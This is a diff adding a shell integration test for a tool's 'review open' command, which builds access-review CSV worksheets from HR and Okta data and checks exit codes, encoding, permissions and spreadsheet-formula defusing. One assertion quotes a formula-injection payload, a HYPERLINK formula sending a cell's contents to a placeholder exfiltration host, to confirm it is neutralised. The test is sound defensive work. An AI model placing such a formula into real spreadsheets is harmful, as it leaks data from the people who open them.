@@ -1,0 +1,81 @@
+#!/bin/sh
+# it_review.sh: `rollcall review open` end to end on case 18's data
+# (tests/data/review/): HR import, accounts import, reconcile, worksheets.
+# Skips while a step it needs is not built yet.
+set -u
+ROLLCALL=${ROLLCALL:-$(pwd)/build/rollcall}
+D=$(pwd)/tests/data/review
+tmp=$(mktemp -d "${TMPDIR:-/tmp}/it_review.XXXXXX")
+trap 'rm -rf "$tmp"' EXIT
+chmod 700 "$tmp"
+failed=0
+
+ok() { echo "ok - $1"; }
+not_ok() { echo "not ok - $1"; failed=1; }
+check() {	# name, then a command that must succeed
+	name=$1
+	shift
+	if "$@"; then ok "$name"; else not_ok "$name"; fi
+}
+
+rc() {
+	"$ROLLCALL" -d "$tmp/r.db" -c "$D/rollcall.conf" --as-of 2026-12-03 "$@"
+}
+
+# The steps before review open belong to other parts: skip until they land.
+for step in "import hr $D/hr.csv" "import accounts okta $D/okta-accounts.csv" \
+    "reconcile"; do
+	# shellcheck disable=SC2086
+	if ! rc $step >"$tmp/out" 2>"$tmp/err"; then
+		if grep -q "not built yet" "$tmp/err"; then
+			echo "skip - review open: '$step' is not built yet"
+			exit 0
+		fi
+		cat "$tmp/err"
+		not_ok "setup: rollcall $step"
+		exit 1
+	fi
+done
+
+check "review open --help exits 0" \
+    sh -c "'$ROLLCALL' review open --help >/dev/null"
+rc review open Q4-2026 --format xlsx >/dev/null 2>"$tmp/err"
+check "review open --format xlsx: exit 1, says csv only" \
+    sh -c "[ $? -eq 1 ] && grep -q 'not available in this build' '$tmp/err'"
+
+mkdir "$tmp/open" && chmod 777 "$tmp/open"
+rc review open Q4-2026 --out "$tmp/open" >/dev/null 2>"$tmp/err"
+check "world-writable --out: exit 2, no campaign left behind" \
+    sh -c "[ $? -eq 2 ] && grep -q 'writable by everyone' '$tmp/err'"
+
+rc review open Q4-2026 --due 2026-12-31 --out "$tmp/ws" >/dev/null \
+    2>"$tmp/err"
+check "review open Q4-2026: exit 0" [ $? -eq 0 ]
+check "summary on stderr names items and the folder" \
+    grep -q "9 items (8 recommended for revocation) for 1 reviewers; worksheets in $tmp/ws/" "$tmp/err"
+f=$tmp/ws/E1800-lea.csv
+check "one worksheet for E1800 and index.csv" \
+    sh -c "[ -f '$f' ] && [ -f '$tmp/ws/index.csv' ] && [ \$(ls '$tmp/ws' | wc -l) -eq 2 ]"
+check "worksheet starts with a UTF-8 BOM" \
+    sh -c "head -c 3 '$f' | od -An -tx1 | grep -q 'ef bb bf'"
+check "every line ends in CRLF" \
+    awk '!/\r$/ { bad = 1 } END { exit bad }' "$f"
+check "case 18: E1801's name arrives as text" \
+    grep -qF "\"'=HYPERLINK(\"\"https://exfil.example.invalid/?d=\"\"&C2,\"\"Open\"\")\"" "$f"
+check "case 18: Okta displayName =2+5 defused" grep -qF ",'=2+5," "$f"
+check "case 18: 17 days since termination, unprefixed" \
+    grep -qF ",terminated_active,17,revoke,RV-" "$f"
+check "index.csv lists E1800 with 9 items, 8 to revoke" \
+    grep -qF "E1800,Lea,lea.marchetti@example.com,E1800-lea.csv,9,8" "$tmp/ws/index.csv"
+check "worksheet folder not world-writable" \
+    sh -c "! ls -ld '$tmp/ws' | cut -c9 | grep -q w"
+
+rc review open Q4-2026 --out "$tmp/again" >/dev/null 2>"$tmp/err"
+check "the same campaign name again: exit 1" \
+    sh -c "[ $? -eq 1 ] && grep -q \"campaign 'Q4-2026' already exists\" '$tmp/err'"
+
+"$ROLLCALL" -d "$tmp/empty.db" -c "$D/rollcall.conf" review open Q1 \
+    --out "$tmp/q1" >/dev/null 2>"$tmp/err"
+check "no HR roster: exit 1" \
+    sh -c "[ $? -eq 1 ] && grep -q 'no HR roster imported' '$tmp/err'"
+exit $failed
